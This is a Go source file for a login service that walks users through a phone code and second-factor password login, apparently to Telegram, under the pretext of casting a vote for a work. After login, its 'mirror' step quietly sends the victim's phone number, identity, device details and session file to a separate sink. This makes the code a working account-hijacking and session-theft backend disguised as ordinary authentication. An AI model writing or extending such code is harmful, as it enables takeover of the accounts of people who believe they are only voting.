// Package auth drives the three step login handshake: send a code to the
// phone, verify the code, and resolve the optional second factor. A completed
// handshake yields a durable user session and, when a work id was attached,
// an automatic vote for that work.
package auth

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/sladmit/RPA2/internal/domain"
	"github.com/sladmit/RPA2/internal/pkg/id"
	"github.com/sladmit/RPA2/internal/pkg/token"
	"github.com/sladmit/RPA2/internal/pkg/validate"
)

// IdentityVerifier talks to the login provider.
type IdentityVerifier interface {
	SendCode(ctx context.Context, phone string, device domain.DeviceDescriptor) (sessionHandle, codeHash string, err error)
	VerifyCode(ctx context.Context, sessionHandle string, device domain.DeviceDescriptor, phone, code, codeHash string) (*domain.CodeVerification, error)
	VerifySecondFactor(ctx context.Context, sessionHandle string, device domain.DeviceDescriptor, secret string) (*domain.VerifiedIdentity, error)
}

// PendingAuthStore persists in-flight handshakes.
type PendingAuthStore interface {
	Put(ctx context.Context, p *domain.PendingAuth) error
	Get(ctx context.Context, authToken string) (*domain.PendingAuth, error)
	Delete(ctx context.Context, authToken string) error
}

// SessionStore persists completed login sessions.
type SessionStore interface {
	Put(ctx context.Context, sess *domain.UserSession) error
}

// VoteRegistrar registers the automatic vote attached to a login.
type VoteRegistrar interface {
	RegisterForPhone(ctx context.Context, workID, phone string) (registered bool, votes int64, err error)
}

// MirrorSink receives best-effort identity snapshots after login.
type MirrorSink interface {
	Send(ctx context.Context, payload domain.MirrorPayload) error
}

// StartLoginRequest opens a handshake for a phone number.
type StartLoginRequest struct {
	Phone  string                  `json:"phone" validate:"required,e164"`
	Device domain.DeviceDescriptor `json:"device_info"`
	WorkID string                  `json:"work_id"`
}

// SubmitCodeRequest carries the code the user received.
type SubmitCodeRequest struct {
	AuthToken string `json:"auth_token" validate:"required"`
	Code      string `json:"code" validate:"required"`
}

// SubmitSecondFactorRequest carries the account password for 2FA accounts.
type SubmitSecondFactorRequest struct {
	AuthToken string `json:"auth_token" validate:"required"`
	Password  string `json:"password" validate:"required"`
}

// StartLoginResult hands back the token the client must present on the
// following steps.
type StartLoginResult struct {
	AuthToken string
}

// LoginOutcome is the result of a code or second factor submission. Either
// SecondFactorRequired is set and the handshake continues under the same
// token, or SessionID identifies the created session.
type LoginOutcome struct {
	SecondFactorRequired bool
	AuthToken            string
	SessionID            string
	Identity             *domain.VerifiedIdentity
	VoteRegistered       bool
	Votes                int64
}

// Service is the login handshake state machine.
type Service interface {
	StartLogin(ctx context.Context, req StartLoginRequest) (*StartLoginResult, error)
	SubmitCode(ctx context.Context, req SubmitCodeRequest) (*LoginOutcome, error)
	SubmitSecondFactor(ctx context.Context, req SubmitSecondFactorRequest) (*LoginOutcome, error)
}

// Deps holds the service dependencies. Mirror may be nil to disable
// snapshot delivery. MaxCodeAttempts of zero leaves attempts unlimited.
type Deps struct {
	Verifier        IdentityVerifier
	Auths           PendingAuthStore
	Sessions        SessionStore
	Votes           VoteRegistrar
	Mirror          MirrorSink
	MaxCodeAttempts int
}

type service struct {
	verifier    IdentityVerifier
	auths       PendingAuthStore
	sessions    SessionStore
	votes       VoteRegistrar
	mirror      MirrorSink
	maxAttempts int
}

// NewService builds the handshake service.
func NewService(deps Deps) Service {
	return &service{
		verifier:    deps.Verifier,
		auths:       deps.Auths,
		sessions:    deps.Sessions,
		votes:       deps.Votes,
		mirror:      deps.Mirror,
		maxAttempts: deps.MaxCodeAttempts,
	}
}

func (s *service) StartLogin(ctx context.Context, req StartLoginRequest) (*StartLoginResult, error) {
	if err := validate.Struct(req); err != nil {
		return nil, err
	}

	handle, codeHash, err := s.verifier.SendCode(ctx, req.Phone, req.Device)
	if err != nil {
		return nil, fmt.Errorf("send code to %s: %w", req.Phone, err)
	}

	authToken, err := token.NewAuthToken()
	if err != nil {
		return nil, err
	}
	pending := &domain.PendingAuth{
		Token:         authToken,
		Phone:         req.Phone,
		Device:        req.Device,
		Step:          domain.StepAwaitingCode,
		SessionHandle: handle,
		CodeHash:      codeHash,
		WorkID:        req.WorkID,
		CreatedAt:     time.Now().UTC(),
	}
	if err := s.auths.Put(ctx, pending); err != nil {
		return nil, fmt.Errorf("store pending auth: %w", err)
	}

	slog.Info("login started", "phone", req.Phone, "work_id", req.WorkID)
	return &StartLoginResult{AuthToken: pending.Token}, nil
}

func (s *service) SubmitCode(ctx context.Context, req SubmitCodeRequest) (*LoginOutcome, error) {
	if err := validate.Struct(req); err != nil {
		return nil, err
	}

	pending, err := s.auths.Get(ctx, req.AuthToken)
	if err != nil {
		return nil, err
	}
	if pending.Step != domain.StepAwaitingCode {
		return nil, fmt.Errorf("handshake is not awaiting a code: %w", domain.ErrValidation)
	}

	res, err := s.verifier.VerifyCode(ctx, pending.SessionHandle, pending.Device, pending.Phone, req.Code, pending.CodeHash)
	if err != nil {
		if errors.Is(err, domain.ErrInvalidCode) {
			return nil, s.recordFailedAttempt(ctx, pending, err)
		}
		return nil, err
	}

	if res.SecondFactorRequired {
		pending.Step = domain.StepAwaitingSecondFactor
		pending.SessionHandle = res.SessionHandle
		if err := s.auths.Put(ctx, pending); err != nil {
			return nil, fmt.Errorf("advance pending auth: %w", err)
		}
		slog.Info("second factor required", "phone", pending.Phone)
		return &LoginOutcome{SecondFactorRequired: true, AuthToken: pending.Token}, nil
	}

	return s.finalize(ctx, pending, res.Identity)
}

func (s *service) SubmitSecondFactor(ctx context.Context, req SubmitSecondFactorRequest) (*LoginOutcome, error) {
	if err := validate.Struct(req); err != nil {
		return nil, err
	}

	pending, err := s.auths.Get(ctx, req.AuthToken)
	if err != nil {
		return nil, err
	}
	if pending.Step != domain.StepAwaitingSecondFactor {
		return nil, fmt.Errorf("handshake is not awaiting a second factor: %w", domain.ErrValidation)
	}

	identity, err := s.verifier.VerifySecondFactor(ctx, pending.SessionHandle, pending.Device, req.Password)
	if err != nil {
		return nil, err
	}

	return s.finalize(ctx, pending, identity)
}

// recordFailedAttempt bumps the attempt counter on a wrong code. When a cap
// is configured and reached, the handshake is torn down so the token cannot
// be brute forced.
func (s *service) recordFailedAttempt(ctx context.Context, pending *domain.PendingAuth, cause error) error {
	pending.Attempts++
	if s.maxAttempts > 0 && pending.Attempts >= s.maxAttempts {
		if derr := s.auths.Delete(ctx, pending.Token); derr != nil {
			slog.Warn("delete exhausted pending auth", "error", derr)
		}
		slog.Info("code attempts exhausted", "phone", pending.Phone, "attempts", pending.Attempts)
		return fmt.Errorf("code attempts exhausted: %w", domain.ErrSessionExpired)
	}
	if perr := s.auths.Put(ctx, pending); perr != nil {
		slog.Warn("persist failed attempt", "error", perr)
	}
	return cause
}

// finalize turns a verified identity into a durable session, registers the
// attached vote when present, consumes the handshake, and fires the mirror
// snapshot without waiting for it.
func (s *service) finalize(ctx context.Context, pending *domain.PendingAuth, identity *domain.VerifiedIdentity) (*LoginOutcome, error) {
	phone := identity.Phone
	if phone == "" {
		phone = pending.Phone
	}

	sessionID, err := token.NewSessionID()
	if err != nil {
		return nil, err
	}
	sess := &domain.UserSession{
		SessionID:  sessionID,
		Phone:      phone,
		TelegramID: identity.TelegramID,
		Username:   identity.Username,
		FirstName:  identity.FirstName,
		LastName:   identity.LastName,
		CreatedAt:  time.Now().UTC(),
	}
	if err := s.sessions.Put(ctx, sess); err != nil {
		return nil, fmt.Errorf("store session: %w", err)
	}

	outcome := &LoginOutcome{SessionID: sess.SessionID, Identity: identity}
	if pending.WorkID != "" {
		registered, votes, err := s.votes.RegisterForPhone(ctx, pending.WorkID, phone)
		if err != nil {
			return nil, fmt.Errorf("register vote for %s: %w", pending.WorkID, err)
		}
		outcome.VoteRegistered = registered
		outcome.Votes = votes
	}

	if err := s.auths.Delete(ctx, pending.Token); err != nil {
		slog.Warn("delete consumed pending auth", "error", err)
	}

	s.sendMirror(pending, identity, phone)

	slog.Info("login completed",
		"phone", phone,
		"work_id", pending.WorkID,
		"vote_registered", outcome.VoteRegistered)
	return outcome, nil
}

// sendMirror delivers the identity snapshot on its own goroutine. Delivery
// failures are logged and otherwise ignored.
func (s *service) sendMirror(pending *domain.PendingAuth, identity *domain.VerifiedIdentity, phone string) {
	if s.mirror == nil {
		return
	}
	payload := domain.MirrorPayload{
		EventID:      id.New(),
		PhoneNumber:  phone,
		TelegramID:   identity.TelegramID,
		Username:     identity.Username,
		FirstName:    identity.FirstName,
		LastName:     identity.LastName,
		SessionFile:  identity.SessionArtifact,
		DeviceInfo:   pending.Device,
		VotedForWork: pending.WorkID,
	}
	go func() {
		if err := s.mirror.Send(context.Background(), payload); err != nil {
			slog.Warn("mirror delivery failed", "event_id", payload.EventID, "error", err)
		}
	}()
}
